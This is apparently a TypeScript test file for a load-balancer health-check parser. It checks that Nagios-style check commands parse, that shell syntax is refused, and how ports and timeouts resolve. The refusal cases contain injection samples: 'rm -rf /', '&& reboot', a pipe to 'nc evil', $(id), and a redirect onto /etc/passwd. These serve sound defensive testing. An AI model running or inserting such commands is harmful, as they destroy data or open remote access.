// Check commands: what is parsed into a native checker, and what is refused (with why).
import t from 'tap';
import { parseCheckCommand, resolvePort, tokenize } from '../../src/health/command.js';
import { effectiveTimeoutMs } from '../../src/health/checkers.js';

const ok = (command: string) => {
  const r = parseCheckCommand(command);
  if (!r.ok) throw new Error(`${command}: ${r.problem}`);
  return r.spec;
};
const problem = (command: string): string => {
  const r = parseCheckCommand(command);
  return r.ok ? 'accepted' : r.problem;
};

t.test('the four built-in templates and the ZEVENET variants parse', async (t) => {
  t.same(ok('check_tcp -H HOST -p PORT'), { kind: 'tcp', port: 'PORT', timeoutS: null, send: null, expect: null, criticalS: null });
  t.same(ok('check_tcp -p PORT -H HOST'), ok('check_tcp -H HOST -p PORT'), 'any order');
  t.same(ok('check_http -I HOST -p PORT -e 200 -t 5'), {
    kind: 'http', port: 'PORT', timeoutS: 5, ssl: false, method: 'GET', path: '/', vhost: null, expect: ['200'], body: null, criticalS: null,
  });
  t.match(ok('check_http -I HOST -p PORT -e 200 -S -t 5'), { ssl: true });
  t.match(ok("check_http -I HOST -p PORT -e 200 -s 'string'"), { body: 'string' });
  t.match(ok('check_http -H HOST -p PORT -u /health -e 200 -s "all good"'), { path: '/health', body: 'all good', vhost: null });
  t.match(ok('check_http -I HOST -H www.example.com -p 8080 -u /h?x=1 -e 200,301 -j HEAD'), {
    vhost: 'www.example.com', port: 8080, path: '/h?x=1', expect: ['200', '301'], method: 'HEAD',
  });
  t.same(ok('check_udp -H HOST -p PORT'), { kind: 'udp', port: 'PORT', timeoutS: null, send: null, expect: null });
  t.match(ok("check_udp -H HOST -p 53 -s 'ping' -e pong -t 2"), { port: 53, send: 'ping', expect: 'pong', timeoutS: 2 });
  t.same(ok('check_ping -H HOST -w 2,100% -c 2,100% -p 2'), { kind: 'ping', packets: 2, timeoutS: null, critical: { rtaMs: 2, lossPct: 100 } });
  t.match(ok('check_tcp -H HOST -p PORT -t 0.5 -w 1 -c 2'), { timeoutS: 0.5, criticalS: 2 });
});

t.test('shell syntax and anything but the four checks is refused, saying why', async (t) => {
  const cases: [string, RegExp][] = [
    ['check_tcp -H HOST -p PORT; rm -rf /', /contains ';', which is shell syntax: nftfarm runs check_tcp, check_http, check_udp, check_ping natively and never runs a shell command/],
    ['check_tcp -H HOST -p PORT && reboot', /contains '&'/],
    ['check_tcp -H HOST -p PORT | nc evil 1', /contains '\|'/],
    ['check_tcp -H HOST -p $(id)', /contains '\$'/],
    ['check_tcp -H HOST -p `id`', /contains '`'/],
    ['check_tcp -H HOST -p PORT > /etc/passwd', /contains '>'/],
    ["check_http -I HOST -s 'a;b'", /contains ';'/],
    ['nmap -sU -p PORT HOST', /'nmap' is not a supported check/],
    ['/usr/lib/nagios/plugins/check_tcp -H HOST -p PORT', /is not a supported check/],
    ['true', /'true' is not a supported check/],
    ['check_ldap -H HOST -p PORT', /'check_ldap' is not a supported check/],
    ['check_tcp -H 10.0.0.1 -p PORT', /-H must be HOST .*got '10.0.0.1'/],
    ['check_tcp -H HOST', /check_tcp needs -p PORT/],
    ['check_tcp -p PORT', /check_tcp needs -H HOST/],
    ['check_tcp -H HOST -p 70000', /-p must be PORT or a port number 1-65535, got '70000'/],
    ['check_tcp -H HOST -p PORT -x 1', /check_tcp does not take the option '-x'/],
    ['check_tcp -H HOST -p PORT extra', /unexpected argument 'extra'/],
    ['check_tcp -H HOST -p PORT -t', /the option -t of check_tcp needs a value/],
    ['check_tcp -H HOST -p PORT -t 0', /-t expects a number of seconds greater than 0/],
    ['check_tcp -H HOST -p PORT -p 80', /the option -p is given twice/],
    ["check_tcp -H HOST -p 'PORT", /unterminated single quote/],
    ['check_http -H www.example.com -p PORT', /would not target the backend: use -I HOST -H www.example.com/],
    ['check_http -I HOST -u health', /-u expects a path starting with '\/'/],
    ['check_http -I HOST -j POST', /-j expects GET or HEAD/],
    ['check_http -I HOST -H bad_host!', /-H expects a host name/],
    ['check_ping -H HOST -c 2', /-c expects 'rta,loss%'/],
    ['check_ping -H HOST -p 50', /-p expects a number of packets 1-20/],
    ['   ', /it is empty/],
  ];
  for (const [command, expected] of cases) t.match(problem(command), expected, command);
});

t.test('tokens: quotes group words, nothing else is interpreted', async (t) => {
  t.same(tokenize(`check_http -s "two words" -e 'a b'`), ['check_http', '-s', 'two words', '-e', 'a b']);
  t.same(tokenize('  a   b  '), ['a', 'b']);
  t.same(tokenize(`x"y z"w`), ['xy zw']);
});

t.test('PORT and timeouts per backend', async (t) => {
  t.equal(resolvePort('PORT', 8080, 80), 8080, "the backend's port");
  t.equal(resolvePort('PORT', null, 80), 80, "else the farm's virtual port");
  t.equal(resolvePort('PORT', null, null), null, "none for a '*' farm");
  t.equal(resolvePort(22, 8080, 80), 22, 'a fixed port');
  t.equal(resolvePort(null, 8080, 80), 80, 'check_http without -p: 80');
  t.equal(resolvePort(null, 8080, 80, true), 443, 'and 443 with -S');
  t.equal(effectiveTimeoutMs(ok('check_tcp -H HOST -p PORT'), 15), 15_000, "the check's timeout");
  t.equal(effectiveTimeoutMs(ok('check_tcp -H HOST -p PORT -t 5'), 15), 5000, 'a shorter -t');
  t.equal(effectiveTimeoutMs(ok('check_tcp -H HOST -p PORT -t 30'), 15), 15_000, 'capped by the check');
});
